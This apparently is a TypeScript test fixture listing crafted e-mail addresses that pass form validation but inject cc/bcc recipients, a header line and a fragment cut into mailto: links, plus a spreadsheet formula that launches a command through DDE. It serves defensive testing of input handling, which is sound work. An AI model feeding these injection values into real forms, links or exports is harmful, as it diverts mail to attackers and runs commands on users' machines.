/**
 * E-mail addresses a visitor can send that the form accepts (the HTML standard's rule allows
 * `? = & % # ' | !` before the @), each built to become more than one address where it is
 * pasted into a link, a header or a spreadsheet.
 */
export const RIGGED_ADDRESSES = {
  /** In a mailto: link, a copy and a blind copy to the attacker. */
  copies: 'a?cc=evil%40x.example&bcc=spy@example.com',
  /** In a mailto: link, a body and a header line (a percent-encoded line break). */
  body: 'a&body=hi%0D%0ABcc%3Aevil%40x.example@example.com',
  /** In a mailto: link, everything after # dropped. */
  fragment: 'pat#@example.com',
  /** In a spreadsheet, a formula. */
  formula: "=cmd|'/C%20calc'!A0@example.com",
} as const

/** The review's rigged address: two @ signs, which the form itself refuses. */
export const REFUSED_BY_THE_FORM = 'a?cc=evil@x.example&body=hi@example.com'
